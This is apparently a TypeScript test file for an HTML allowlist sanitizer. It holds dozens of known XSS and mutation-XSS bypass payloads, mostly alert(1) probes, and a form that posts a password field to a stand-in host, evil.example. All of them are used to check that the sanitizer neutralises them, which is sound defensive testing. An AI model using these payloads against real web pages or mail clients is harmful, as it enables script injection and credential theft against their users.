/**
 * The allowlist sanitizer on its own: the probes that got through the old filter (object, embed,
 * form, meta refresh, base, link) and a list of known sanitizer bypasses. Each output is parsed
 * again, as a mail client would, and every element, attribute and URL in it is checked.
 */
import assert from 'node:assert/strict';
import type * as Parse5 from 'parse5' with { 'resolution-mode': 'import' };
import type { DefaultTreeAdapterMap } from 'parse5' with { 'resolution-mode': 'import' };
import { safeStyle, safeUrl, sanitizeHtml } from '../../../src/core/markdown/sanitize';

type Node = DefaultTreeAdapterMap['childNode'];

/** parse5 is an ECMAScript module: loaded once before the tests, as a mail client's parser. */
let parse5: typeof Parse5 | undefined;

const ALLOWED_ELEMENTS = new Set([
  'p', 'h1', 'h2', 'h3', 'h4', 'h5', 'h6', 'em', 'strong', 'a', 'img', 'code', 'pre', 'blockquote', 'ul', 'ol', 'li', 'hr', 'br', 's',
  'table', 'thead', 'tbody', 'tfoot', 'tr', 'th', 'td', 'span', 'div', 'del', 'ins', 'sup', 'sub', 'b', 'i', 'u', 'small', 'mark',
  'kbd', 'samp', 'var', 'abbr', 'cite', 'q', 'dl', 'dt', 'dd', 'caption', 'colgroup', 'col', 'center', 'figure', 'figcaption',
]);

/** What a second parse of the output finds that must never be there. */
function violations(html: string): string[] {
  const found: string[] = [];
  const visit = (nodes: readonly Node[]): void => {
    for (const node of nodes) {
      if (node.nodeName === '#comment') found.push('comment');
      if (!('tagName' in node)) continue;
      if (!ALLOWED_ELEMENTS.has(node.tagName)) found.push(`<${node.tagName}>`);
      for (const { name, value } of node.attrs) {
        if (name.startsWith('on') || name === 'srcset' || name === 'action' || name === 'formaction' || name === 'background') found.push(`@${name}`);
        if ((name === 'href' || name === 'src') && /^\s*[a-z][a-z0-9+.-]*:/i.test(value) && !/^(https?|mailto|cid):/i.test(value.trim())) found.push(`${name}=${value}`);
        if (name === 'style' && /url\s*\(|expression|@import|javascript:|behavior|binding|\\|\/\*/i.test(value)) found.push(`style=${value}`);
      }
      visit(node.childNodes);
    }
  };
  assert.ok(parse5 !== undefined);
  visit(parse5.parseFragment(html).childNodes);
  if (/alert|javascript:/i.test(html)) found.push('script text');
  return found;
}

describe('sanitizeHtml (allowlist)', () => {
  before(async () => {
    parse5 = await import('parse5');
  });

  // The probes that passed the old blocklist sanitizer (the object/embed script ran in Chromium).
  const probes: ReadonlyArray<[string, string]> = [
    ['object with a data: document', '<object data="data:text/html,<script>alert(1)</script>"></object>'],
    ['embed', '<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">'],
    ['form posting elsewhere', '<form action="https://evil.example/collect" method="post"><input name="pw"><button formaction="https://evil.example">Go</button></form>'],
    ['meta refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example/alert">'],
    ['base', '<base href="https://evil.example/"><a href="page">x</a>'],
    ['link stylesheet', '<link rel="stylesheet" href="https://evil.example/alert.css">'],
  ];
  // Known bypasses of regular-expression and parser-differential sanitizers.
  const bypasses: ReadonlyArray<[string, string]> = [
    ['script element', 'a<script>alert(1)</script>b'],
    ['uppercase tags', 'a<SCRIPT type="text/javascript" src="x.js">alert(1)</SCRIPT >b<IMG SRC=x ONERROR=alert(1)>'],
    ['script without end', 'a<script>alert(1)'],
    ['script with slash', 'a<script/src="x.js"></script>b'],
    ['event handler', '<div onmouseover="alert(1)">a</div>'],
    ['handler after slash', '<img/src="x"/onerror=alert(1)>'],
    ['unquoted attribute', '<a href=javascript:alert(1)>a</a><img src=x onerror=alert(1)>'],
    ['javascript: href', '<a href="javascript:alert(1)">a</a>'],
    ['leading space in href', '<a href=" javascript:alert(1)">a</a>'],
    ['control characters before the scheme', '<a href="\x01\x02javascript:alert(1)">a</a>'],
    ['entity-encoded scheme', '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">a</a>'],
    ['hex entities without semicolons', '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">a</a>'],
    ['obfuscated scheme', '<a href=" Java&#x53;cript&colon;alert(1)">a</a>'],
    ['tab inside the scheme', '<a href="java&#x09;script:alert(1)">a</a><a href="java\tscript:alert(1)">b</a>'],
    ['newline inside the scheme', '<a href="java&#10;script:alert(1)">a</a>'],
    ['vbscript', "<a href='vbscript:msgbox(alert)'>a</a>"],
    ['data: URL in an image', '<img src="data:image/svg+xml,<svg onload=alert(1)>">'],
    ['abrupt comment', 'a<!--><script>alert(1)</script>-->b'],
    ['unclosed comment', 'a<!-- <script>alert(1)</script>'],
    ['conditional comment', '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->'],
    ['style quote trick', '<style>p{}<a title="</style><script>alert(1)</script>"></style>'],
    ['svg style (mXSS)', '<svg><style><img src=x onerror=alert(1)></style></svg>'],
    ['math mglyph (mXSS)', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>'],
    ['noscript quote trick', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'],
    ['form/math namespace confusion (mXSS)', '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>'],
    ['nested template', '<template><template><script>alert(1)</script></template></template>'],
    ['iframe srcdoc', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
    ['svg use xlink', '<svg><use xlink:href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"></use></svg>'],
    ['svg animate', '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text>x</text></a></svg>'],
    ['srcset', '<img src="https://ok.example/a.png" srcset="javascript:alert(1) 1x">'],
    ['style url()', '<p style="background-image: url(javascript:alert(1)); color: red">x</p>'],
    ['style expression()', '<p style="width: expression(alert(1))">x</p>'],
    ['style escaped url', '<p style="background: \\75 rl(https://evil.example/track)">x</p>'],
    ['style comment split', '<p style="width: ex/**/pression(alert(1))">x</p>'],
    ['style @import', '<p style="@import \'https://evil.example/x.css\'">x</p>'],
    ['behavior and binding', '<p style="behavior: url(x.htc); -moz-binding: url(x.xml#alert)">x</p>'],
    ['xmp raw text', '<xmp><img src=x onerror=alert(1)></xmp>'],
    ['textarea raw text', '<textarea><img src=x onerror=alert(1)></textarea>'],
    ['plaintext', '<plaintext><script>alert(1)</script>'],
    ['button formaction', '<button formaction="javascript:alert(1)">x</button>'],
    ['table background', '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>'],
  ];
  for (const [name, html] of [...probes, ...bypasses]) {
    it(`neutralises: ${name}`, async () => {
      const clean = await sanitizeHtml(html);
      assert.deepEqual(violations(clean), [], clean);
    });
  }

  it('drops the probe elements entirely', async () => {
    const clean = await sanitizeHtml(probes.map(([, html]) => html).join('\n'));
    assert.doesNotMatch(clean, /<(object|embed|form|input|button|meta|base|link)\b/i, clean);
    assert.doesNotMatch(clean, /evil\.example|data:/, clean);
  });

  it('keeps ordinary markup and attributes, escaping what it writes', async () => {
    const html = '<p class="x" style="color: red">Hi <a href="https://example.com/?a=1&amp;b=2" title=\'t > s\'>link</a> <img src="cid:image1@x" alt="a"> <a href="mailto:a@example.com">m</a></p>\n';
    assert.equal(
      await sanitizeHtml(html),
      '<p class="x" style="color: red">Hi <a href="https://example.com/?a=1&amp;b=2" title="t &gt; s">link</a> <img src="cid:image1@x" alt="a"> <a href="mailto:a@example.com">m</a></p>\n',
    );
  });

  it('keeps what markdown-it writes byte for byte', async () => {
    const html = '<h1>Title</h1>\n<table style="border-collapse: collapse;">\n<thead>\n<tr>\n<th style="text-align:right; border: 1px">a &amp; &quot;b&quot;</th>\n</tr>\n</thead>\n</table>\n<pre style="padding: 12px;"><code class="language-js">if (a &lt; b) {}\n</code></pre>\n<ul>\n<li><s>old</s> <em>new</em></li>\n</ul>\n<hr>\n<p>a<br>\nb</p>\n';
    assert.equal(await sanitizeHtml(html), html);
  });

  it('unwraps unknown elements but keeps their text', async () => {
    assert.equal(await sanitizeHtml('<font color="red">red</font> <custom-x>x</custom-x>'), 'red x');
  });

  it('escapes text that only looks like markup', async () => {
    assert.equal(await sanitizeHtml('1 &lt; 2 and a&lt;b'), '1 &lt; 2 and a&lt;b');
    assert.equal(await sanitizeHtml('&lt;script&gt; stays text'), '&lt;script&gt; stays text');
  });

  it('keeps a leading blank line of <pre> that the parser would otherwise swallow', async () => {
    assert.equal(await sanitizeHtml('<pre>\n\nx</pre>'), '<pre>\n\nx</pre>');
  });

  it('survives deep nesting without exhausting the stack', async () => {
    const depth = 20_000;
    const clean = await sanitizeHtml('<span>'.repeat(depth) + 'x' + '</span>'.repeat(depth));
    assert.ok(clean.includes('x'));
  });

  it('safeUrl allows http, https, mailto, cid and relative references only', () => {
    assert.equal(safeUrl('https://a.example/x'), 'https://a.example/x');
    assert.equal(safeUrl('  HTTP://a.example/ '), 'HTTP://a.example/');
    assert.equal(safeUrl('cid:image1@x'), 'cid:image1@x');
    assert.equal(safeUrl('mailto:a@b.example'), 'mailto:a@b.example');
    assert.equal(safeUrl('#top'), '#top');
    assert.equal(safeUrl('page/a:b'), 'page/a:b');
    for (const bad of ['javascript:alert(1)', 'java\tscript:x', 'data:text/html,x', 'file:///etc/passwd', 'vbscript:x', 'ftp://x', 'c:\\x.png', '\x00javascript:x']) {
      assert.equal(safeUrl(bad), undefined, JSON.stringify(bad));
    }
  });

  it('safeStyle keeps plain declarations and drops the ones that load or run', () => {
    assert.equal(safeStyle('color: red; font-weight: 600;'), 'color: red; font-weight: 600;');
    assert.equal(safeStyle('color: red; background: url(x.png)'), 'color: red');
    assert.equal(safeStyle('width: expression(alert(1)); margin: 0'), 'margin: 0');
    assert.equal(safeStyle('background:\\75rl(x)'), '');
  });
});
